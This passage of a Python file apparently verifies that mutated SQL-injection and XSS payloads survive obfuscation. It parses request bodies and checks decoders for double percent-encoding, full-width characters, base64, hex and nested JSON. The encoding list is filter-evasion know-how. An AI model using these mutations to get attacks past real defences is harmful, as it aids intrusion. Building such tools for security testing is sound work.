    found += [value for _, value in headers] + [percent(it.partition("=")[2]) for it in fields.get("cookie", "").split("; ")]
    coding = fields.get("content-encoding")
    body = gzip.decompress(body) if coding == "gzip" else zlib.decompress(body) if coding == "deflate" else body
    if not body:
        return found
    charset = re.search(r"charset=([\w-]+)", fields.get("content-type", ""))
    if body.startswith(b"--") or b"\r\n--" in body:
        found += multipart_texts(fields["content-type"], body)
        return found
    text = body.decode("utf-8" if charset is None else charset[1])
    if text.lstrip().startswith("<"):
        # The parser knows the charset; what it declares is of no use once it is text.
        pieces = []
        parser = xml.parsers.expat.ParserCreate()
        parser.CharacterDataHandler = pieces.append
        parser.EndElementHandler = lambda name: pieces.append("\0")
        parser.Parse(re.sub(r'encoding="[^"]*"', "", text).encode(), True)
        return found + "".join(pieces).split("\0")
    if text.startswith(("{", "[")):
        def collect(pairs):
            found.extend(value for _, value in pairs if isinstance(value, str))
            return dict(pairs)
        def lists(node):
            for it in node if isinstance(node, list) else node.values() if isinstance(node, dict) else ():
                found.append(it) if isinstance(it, str) else lists(it)
        lists(json.loads(text, object_pairs_hook=collect))
        return found
    return found + [percent(it.partition("=")[2].replace("+", " ")) for it in text.split("&")]


def multipart_texts(content_type, body):
    """Through the library's reader of mail, which is another one's work."""
    mail = BytesParser(policy=HTTP).parsebytes(b"Content-Type: " + content_type.encode() + b"\r\n\r\n" + body)
    return [part.get_payload(decode=True).decode(part.get_content_charset() or "utf-8", "replace") for part in mail.iter_parts()]


UNDONE = {
    "percent-twice": urllib.parse.unquote, "percent-thrice": lambda it: urllib.parse.unquote(urllib.parse.unquote(it)), "percent-every-twice": urllib.parse.unquote,
    "full-width": lambda it: "".join(unicodedata.normalize("NFKC", c) if 0xff01 <= ord(c) <= 0xff5e else c for c in it), "html-references": html.unescape, "javascript-escapes": lambda it: re.sub(r"\\(?:x(..)|u(....))", lambda e: chr(int(e[1] or e[2], 16)), it),
    "base64": lambda it: base64.b64decode(it).decode(), "base64-url": lambda it: base64.urlsafe_b64decode(it + "=" * (-len(it) % 4)).decode(), "hexadecimal": lambda it: bytes.fromhex(it).decode(),
    "json-in-text": lambda it: next(filter(None, re.findall(r"(?s).*", only_text(json.loads(it))))), "json-in-json-in-text": lambda it: json.loads(json.loads(it)["message"])["body"],
    "query-in-text": lambda it: urllib.parse.parse_qs(it.partition("?")[2] or it)["q"][0],
}


def only_text(node):
    texts = []

    def walk(it):
        if isinstance(it, str):
            texts.append(it)
        for below in it.values() if isinstance(it, dict) else it if isinstance(it, list) else ():
            walk(below)
    walk(node)
    return texts[0]


def check_carriers(tally, chance, rounds):
    for _ in range(max(3, rounds // 12)):
        for value in VALUES:
            for message in messages(value):
                for operator in carrier_operators.ALL:
                    kind = "sqli" if operator.name == "parameter-split" else "xss"
                    it = Child(kind, message)
                    it.victims = EVERY
                    try:
                        if not it.take(operator, chance):
                            continue
                        found = texts_of(row_of(it.message))
                    except Impossible:
                        continue
                    tally.add(operator.name, "readers of the library", carried(operator, value, it.message, found), (message.place, value), row_of(it.message))


def carried(operator, value, message, found):
    if operator.name in UNDONE:
        return any(undone(operator.name, text) == value for text in found if isinstance(text, str))
    if operator.name in ("words-before", "words-after"):
        return any(text.endswith(value) or text.startswith(value) for text in found)
    if operator.name == "parameter-split":
        return any(re.sub(r"/\*,\*/", " ", f"{one},{other}") == value for one, other in zip(found, found[1:]))
    if message.place[0] == "multipart" or operator.name == "multipart-quoted-printable":
        return any(text.replace("\r\n", "\n").rstrip("\n") == value for text in found)
    return value in found


def undone(name, text):
    try:
        return UNDONE[name](text)
    except (ValueError, KeyError, IndexError, TypeError, StopIteration, AttributeError):
        return None


EXAMPLES_MAX = 4
COMPOSED = ["three of sql", "two or three of shell", "two or three of markup"]
CHECKS = (check_sql, check_shell, check_shell_compositions, check_windows_commands, check_paths, check_markup, check_addresses, check_rest, check_words, check_carriers)


def main():
    parser = argparse.ArgumentParser(description="Shows by machine that mutated attacks still do what the originals did.")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--rounds", type=int, default=60)
    arguments = parser.parse_args()
    tally = Tally()
    for check in CHECKS:
        check(tally, random.Random(arguments.seed), arguments.rounds)
    print(f"{'operator':36}{'tried':>7}{'same':>7}{'differ':>7}  by")
    untried = []
    for name in [it.name for it in OPERATORS] + COMPOSED:
        same, differing = tally.same[name], tally.differing[name]
        if same + differing == 0:
            untried.append(name)
            continue
        print(f"{name:36}{same + differing:>7}{same:>7}{differing:>7}  {', '.join(sorted(tally.ways[name]))}")
    print(f"\nNot checked by a machine: {', '.join(untried) or 'none'}")
    for name, examples in tally.examples.items():
        for parent, child in examples[:EXAMPLES_MAX]:
            print(f"differs: {name}\n  {str(parent):.300}\n  {str(child):.500}")
    sys.exit(1 if tally.examples else 0)


if __name__ == "__main__":
    main()
